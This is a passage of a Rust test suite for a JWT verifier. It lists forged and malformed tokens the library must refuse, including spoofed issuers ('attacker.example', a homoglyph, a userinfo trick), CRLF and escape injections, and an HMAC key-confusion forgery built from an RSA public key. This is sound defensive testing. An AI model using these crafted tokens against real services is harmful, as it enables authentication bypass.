    let forged = sign(&RSA_B.signing, HEADER, "no JSON");
    cases.push(refused("signature_invalid", "forged, and no JSON", forged));
    cases
}

fn claims_json() -> Vec<Case> {
    let malformed: [&[u8]; 18] = [
        b"",
        b" ",
        b"null",
        b"1",
        b"\"\"",
        b"[]",
        b"[{}]",
        b"{",
        b"{}{}",
        b"{} x",
        b"{\"exp\":NaN}",
        b"{\"exp\":Infinity}",
        b"{\"exp\":1e400}",
        b"{\"exp\":01}",
        b"{\"exp\":1,}",
        b"\xef\xbb\xbf{}",
        b"{\"sub\":\"\xc0\x80\"}",
        b"{\"sub\":\"a\nb\"}",
    ];
    let signed = |payload: &[u8]| sign(&RSA_A.signing, HEADER, payload);
    let mut cases: Vec<Case> = malformed
        .into_iter()
        .map(|text| {
            refused("claims_malformed", format!("claims {:?}", String::from_utf8_lossy(text)), signed(text))
        })
        .collect();
    let deep = |levels: usize| claims(&[("x", &format!("{}1{}", "[".repeat(levels), "]".repeat(levels)))]);
    cases.extend([
        accepted("claims nested to the limit", deep(31)),
        refused("claims_malformed", "claims nested one past the limit", deep(32)),
        refused("claims_malformed", "claims of brackets", signed("[".repeat(10_000).as_bytes())),
        refused("claims_malformed", "claims of braces", signed("{\"a\":".repeat(2_000).as_bytes())),
    ]);
    let duplicates = [
        "\"exp\":9999999999",
        "\"exp\":1800003600",
        "\"e\\u0078p\":9999999999",
        "\"iss\":\"https://tenant.example/\"",
        "\"aud\":\"https://api.example/\"",
        "\"sub\":\"admin\"",
        "\"scope\":\"a\",\"scope\":\"b\"",
        "\"x\":{\"y\":1,\"y\":1}",
        "\"x\":[[{\"y\":1,\"y\":1}]]",
        "\"\":1,\"\":2",
        "\"a\\n\":1,\"a\\n\":2",
    ];
    cases.extend(duplicates.map(|raw| {
        let token = signed(prefixed(CLAIMS, raw).as_bytes());
        refused("claims_duplicate_member", format!("the claims {raw} twice"), token)
    }));
    cases
}

fn claim_types() -> Vec<Case> {
    let mut cases = Vec::new();
    let not_a_time = [
        "null",
        "true",
        "false",
        "\"never\"",
        "\"99999999999\"",
        "\"1800003600\"",
        "\"\"",
        "[1]",
        "[]",
        "{}",
        "-1",
        "-0.5",
        "-1e300",
        "1e300",
        "253402300800",
        "9223372036854775808",
        "18446744073709551615",
        "18446744073709551616",
        "1e20",
    ];
    for name in ["exp", "nbf", "iat"] {
        // Rounded up, half a second before 1970 is 1970: harmless for `nbf` and `iat`.
        let wrong = not_a_time.into_iter().filter(|raw| name == "exp" || *raw != "-0.5");
        cases.extend(
            wrong.map(|raw| refused("claim_type", format!("{name} is {raw}"), claims(&[(name, raw)]))),
        );
    }
    let not_a_text = ["null", "1", "1.5", "true", "{}", "[]", "[\"https://tenant.example/\"]"];
    for name in ["iss", "sub", "jti"] {
        cases.extend(
            not_a_text.map(|raw| refused("claim_type", format!("{name} is {raw}"), claims(&[(name, raw)]))),
        );
    }
    let evil_first = "[\"https://attacker.example/\",\"https://tenant.example/\"]";
    cases.push(refused("claim_type", "two issuers", claims(&[("iss", evil_first)])));
    let not_an_audience = [
        "null",
        "1",
        "true",
        "{}",
        "{\"https://api.example/\":1}",
        "[1]",
        "[\"https://api.example/\",1]",
        "[\"https://api.example/\",null]",
        "[[\"https://api.example/\"]]",
    ];
    cases.extend(
        not_an_audience.map(|raw| refused("claim_type", format!("aud is {raw}"), claims(&[("aud", raw)]))),
    );
    for raw in ["1", "true", "[\"a\"]", "{}"] {
        cases.push(refused("claims_shape", format!("scope is {raw}"), claims(&[("scope", raw)])));
    }
    for raw in ["1", "\"a\\r\\nb\"", "[1]", "null", "{\"a\":1}"] {
        cases.push(refused("claims_shape", format!("permissions is {raw}"), claims(&[("permissions", raw)])));
    }
    let marker =
        claims(&[("x", "{\"$serde_json::private::Number\":\"1\",\"$serde_json::private::RawValue\":\"1\"}")]);
    cases.push(refused("claims_malformed", "names that a parser uses inside", marker));
    cases.push(accepted("a prototype", claims(&[("__proto__", "{\"exp\":1}"), ("toString", "1")])));
    cases
}

fn issuer_and_audience() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["exp", "iss", "aud"] {
        cases.push(refused("claim_missing", format!("no {name}"), claims(&[(name, "")])));
        let capital = name.to_uppercase();
        let misspelt = claims(&[(name, ""), (&capital, &with_value(name))]);
        cases.push(refused("claim_missing", format!("{capital} for {name}"), misspelt));
    }
    cases.push(refused("claim_missing", "no claims at all", sign(&RSA_A.signing, HEADER, "{}")));
    let other_issuers = [
        "",
        "https://tenant.example",
        "https://tenant.example//",
        "https://tenant.example/x",
        "https://tenant.exampl",
        "https://Tenant.example/",
        "HTTPS://tenant.example/",
        "http://tenant.example/",
        "https://tenant.example:443/",
        "https://tenant.example/ ",
        " https://tenant.example/",
        "https://tenant.example/\\u0000",
        "https://tenant.example/?",
        "https://tenant.example/#",
        "https://tenant.example.evil.example/",
        "https://evil.example/https://tenant.example/",
        "https://tenant.example@evil.example/",
        "https://t\\u0435nant.example/",
        "tenant.example",
        "{tenantid}",
        "x\\r\\ny",
    ];
    cases.extend(other_issuers.map(|text| {
        refused("iss_mismatch", format!("iss {text:?}"), claims(&[("iss", &format!("\"{text}\""))]))
    }));
    let other_audiences = [
        "\"\"",
        "[]",
        "[\"\"]",
        "\"https://api.example\"",
        "\"https://api.exampl\"",
        "\"https://api.example//\"",
        "\"https://API.example/\"",
        "\"https://api.example/v2\"",
        "\"https://other.example/ https://api.example/\"",
        "\"https://other.example/,https://api.example/\"",
        "[\"https://api.example\",\"https://other.example/\"]",
        "[\"https://api.example/ \"]",
        "\"*\"",
        "[\"h\",\"t\",\"t\",\"p\"]",
        "\"a\\r\\nb\"",
        "[\"a\\u001b\",\"b\",\"c\",\"d\",\"e\",\"f\",\"g\"]",
    ];
    cases.extend(
        other_audiences.map(|raw| refused("aud_mismatch", format!("aud {raw}"), claims(&[("aud", raw)]))),
    );
    for taken in [
        "[\"https://api.example/\"]",
        "[\"https://other.example/\",\"https://api.example/\"]",
        "\"https:\\/\\/api.example\\/\"",
    ] {
        cases.push(accepted(format!("aud {taken}"), claims(&[("aud", taken)])));
    }
    let second = || policy([Algorithm::RS256]).or_audience("https://second.example/").unwrap();
    let for_second = claims(&[("aud", "\"https://second.example/\"")]);
    cases.push(accepted("a second accepted audience", &*for_second).policy(second()));
    cases.push(accepted("the first of two accepted audiences", claims(&[])).policy(second()));
    cases.push(refused("aud_mismatch", "a second audience, not accepted", for_second));
    cases
}

fn with_value(name: &str) -> String {
    let claims: serde_json::Value = serde_json::from_str(CLAIMS).unwrap();
    claims[name].to_string()
}

fn times() -> Vec<Case> {
    let leeway = |seconds: u64| policy([Algorithm::RS256]).leeway(seconds).unwrap();
    let expires = |raw: &str, now: u64| (claims(&[("exp", raw), ("nbf", ""), ("iat", "")]), now);
    let good = |what: &str, (token, now): (String, u64)| accepted(what, token).at(now);
    let bad = |code, what: &str, (token, now): (String, u64)| refused(code, what, token).at(now);
    let late = |what: &str, timed| bad("token_expired", what, timed);
    let mut cases = vec![
        good("one second before exp", expires("1000", 999)),
        late("at exp", expires("1000", 1000)),
        late("one second after exp", expires("1000", 1001)),
        late("exp 0", expires("0", NOW)),
        late("exp 0 in 1970", expires("0", 0)),
        late("exp -0", expires("-0.0", 0)),
        good("leeway 30, its last second", expires("1000", 1029)).policy(leeway(30)),
        late("leeway 30, used up", expires("1000", 1030)).policy(leeway(30)),
        good("leeway 300, its last second", expires("1000", 1299)).policy(leeway(300)),
        late("leeway 300, used up", expires("1000", 1300)).policy(leeway(300)),
        good("exp with a fraction, before its whole second", expires("1000.9", 999)),
        late("exp with a fraction, in its whole second", expires("1000.9", 1000)),
        good("exp with an exponent", expires("1e3", 999)),
        late("exp with an exponent, at it", expires("1e3", 1000)),
        good("the latest exp", expires("253402300799", NOW)),
        late("the latest exp, at the end of time", expires("253402300799", u64::MAX)),
        late("exp with leeway, at the end of time", expires("253402300799", u64::MAX)).policy(leeway(300)),
    ];
    for name in ["nbf", "iat"] {
        let begins =
            |raw: &str, now: u64| (claims(&[("exp", "2000"), ("nbf", ""), ("iat", ""), (name, raw)]), now);
        let early = |what: &str, timed| bad("token_not_yet_valid", &format!("{name}: {what}"), timed);
        let good = |what: &str, timed| good(&format!("{name}: {what}"), timed);
        cases.extend([
            early("one second before", begins("1000", 999)),
            good("at it", begins("1000", 1000)),
            early("leeway 30, one second too early", begins("1030", 999)).policy(leeway(30)),
            good("leeway 30, just in time", begins("1030", 1000)).policy(leeway(30)),
            early("leeway 300, one second too early", begins("1300", 999)).policy(leeway(300)),
            good("leeway 300, just in time", begins("1300", 1000)).policy(leeway(300)),
            early("a fraction, in its whole second", begins("1000.1", 1000)),
            good("a fraction, after its whole second", begins("1000.1", 1001)),
            good("absent", begins("", 1000)),
            early("the latest time", begins("253402300799", 1000)),
        ]);
    }
    cases.push(refused(
        "token_expired",
        "expired and not yet valid",
        claims(&[("exp", "1"), ("nbf", "9999999999")]),
    ));
    cases
}

/// Every table, so that what they meet together can be compared with what is documented.
const TABLES: [fn() -> Vec<Case>; 20] = [
    form,
    trailing_bits,
    sizes,
    header_json,
    header_members,
    embedded_keys,
    algorithm_none,
    algorithm_names,
    algorithm_choice,
    key_confusion,
    key_choice,
    key_injections,
    token_types,
    rsa_signatures,
    curve_signatures,
    forged_claims,
    claims_json,
    claim_types,
    issuer_and_audience,
    times,
];

#[test]
fn tables_meet_every_documented_code() {
    let tables = TABLES.iter().chain(profiles::TABLES).chain(templates::TABLES);
    let met = tables.flat_map(|table| table()).filter_map(|case| case.expected).collect();
    codes::check_coverage(&met, "Refusal");
}

#[test]
fn token_of_another_form_is_refused() {
    check(&form());
}

#[test]
fn token_in_a_second_spelling_is_refused() {
    check(&trailing_bits());
}

#[test]
fn token_past_a_limit_is_refused() {
    check(&sizes());
}

#[test]
fn header_that_is_no_strict_object_is_refused() {
    check(&header_json());
}

#[test]
fn header_member_of_wrong_type_is_refused() {
    check(&header_members());
}

#[test]
fn key_in_the_header_is_refused() {
    check(&embedded_keys());
}

#[test]
fn unsigned_token_is_refused() {
    check(&algorithm_none());
}

#[test]
fn unknown_algorithm_is_refused() {
    check(&algorithm_names());
}

#[test]
fn algorithm_beside_policy_or_key_is_refused() {
    check(&algorithm_choice());
}

#[test]
fn public_key_as_secret_is_refused() {
    check(&key_confusion());
}

#[test]
fn kid_without_one_fitting_key_is_refused() {
    check(&key_choice());
}

#[test]
fn kid_that_is_an_attack_is_unknown() {
    check(&key_injections());
}

#[test]
fn token_type_beside_the_expected_is_refused() {
    check(&token_types());
}

#[test]
fn altered_rsa_signature_is_refused() {
    check(&rsa_signatures());
}

#[test]
fn altered_curve_signature_is_refused() {
    check(&curve_signatures());
}

#[test]
fn forged_token_is_refused_for_its_signature() {
    check(&forged_claims());
}

#[test]
fn claims_that_are_no_strict_object_are_refused() {
    check(&claims_json());
}

#[test]
fn claim_of_wrong_type_is_refused() {
    check(&claim_types());
}

#[test]
fn other_issuer_or_audience_is_refused() {
    check(&issuer_and_audience());
}

#[test]
fn token_outside_its_time_is_refused() {
    check(&times());
}

/// What a caller's own type says about claims it does not know.
#[derive(Debug, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
enum Plan {
    Free,
}

#[derive(Debug, serde::Deserialize)]
#[expect(dead_code, reason = "only its refusals are looked at")]
struct PlanClaims {
    plan: Option<Plan>,
}

/// What reading claims with this `plan` as [`PlanClaims`] says.
fn plan_message(plan: &str) -> String {
    let token = sign(&RSA_A.signing, HEADER, with(CLAIMS, &[("plan", plan)]));
    let answer =
        verify::<PlanClaims>(&token, &KEYS, &policy([Algorithm::RS256]), UnixTime::from_seconds(NOW));
    let refusal = answer.unwrap_err();
    assert_eq!(refusal.code(), "claims_shape");
    refusal.to_string()
}

#[test]
fn message_about_the_shape_of_claims_is_escaped() {
    for plan in ["\"a\\r\\nb\"", "\"\\u001b[31m\""] {
        let message = plan_message(plan);
        assert!(!message.contains(char::is_control), "{message:?}");
    }
}

#[test]
fn message_about_the_shape_of_claims_is_short() {
    let endless = format!("\"{}\"", "x".repeat(5000));
    let permissions = refused("claims_shape", "permissions", claims(&[("permissions", &endless)]));
    let lengths = [plan_message(&endless).len(), permissions.refusal().unwrap().to_string().len()];
    assert!(lengths.iter().all(|length| *length < 500), "{lengths:?}");
}

#[test]
fn message_about_a_payload_that_is_text_is_short() {
    let text = format!("\"{}\"", "x".repeat(5000));
    let in_claims = refused("claims_malformed", "text as claims", sign(&RSA_A.signing, HEADER, &text));
    let in_header = refused("header_malformed", "text as a header", sign(&RSA_A.signing, &text, CLAIMS));
    let lengths = [in_claims, in_header].map(|case| case.refusal().unwrap().to_string().len());
    assert!(lengths.iter().all(|length| *length < 500), "{lengths:?}");
}

#[test]
fn policy_that_cannot_be_meant_is_refused() {
    let new = |issuer: &str, audience: &str, algorithms: &[Algorithm]| {
        Policy::new(issuer, audience, algorithms.iter().copied())
    };
    let rs256 = [Algorithm::RS256];
    let cases = [
        (new("", AUDIENCE, &rs256), "config_issuer_empty"),
        (new(ISSUER, "", &rs256), "config_audience_empty"),
        (new(ISSUER, AUDIENCE, &rs256).unwrap().or_audience(""), "config_audience_empty"),
        (new(ISSUER, AUDIENCE, &[]), "config_algorithms_empty"),
        (new(ISSUER, AUDIENCE, &[Algorithm::RS256, Algorithm::HS256]), "config_algorithms_mixed"),
        (new(ISSUER, AUDIENCE, &[Algorithm::HS512, Algorithm::EdDSA]), "config_algorithms_mixed"),
        (new(ISSUER, AUDIENCE, &rs256).unwrap().leeway(301), "config_leeway_too_large"),
        (new(ISSUER, AUDIENCE, &rs256).unwrap().leeway(u64::MAX), "config_leeway_too_large"),
        (new(ISSUER, AUDIENCE, &rs256).unwrap().token_type(""), "config_typ_empty"),
    ];
    let others = profiles::refused_policies().into_iter().chain(templates::refused_policies());
    let cases: Vec<_> = cases.into_iter().chain(others).collect();
    for (policy, code) in &cases {
        assert_eq!(policy.as_ref().map_err(PolicyError::code), Err(*code));
    }
    assert!(new(ISSUER, AUDIENCE, &rs256).unwrap().leeway(300).is_ok());
    codes::check_coverage(&cases.iter().map(|(_, code)| *code).collect(), "PolicyError");
}

#[test]
fn key_confusion_is_not_met_by_accident() {
    // The forged tokens above would be good ones if the public text were a secret: the table tests something.
    let (_, secret) = public_forms().into_iter().find(|(form, _)| *form == "the JWK").unwrap();
    let set = format!(r#"{{"keys":[{{"kty":"oct","kid":"rsa-a","k":"{}"}}]}}"#, base64url_encode(&secret));
    let keys = KeySet::parse_local(set.as_bytes()).unwrap();
    let token = hmac_token(("HS256", hmac::HMAC_SHA256), "\"rsa-a\"", &secret);
    let answer =
        verify::<AccessClaims>(&token, &keys, &policy([Algorithm::HS256]), UnixTime::from_seconds(NOW));
    assert_eq!(answer.map(|verified| verified.algorithm()), Ok(Algorithm::HS256));
}
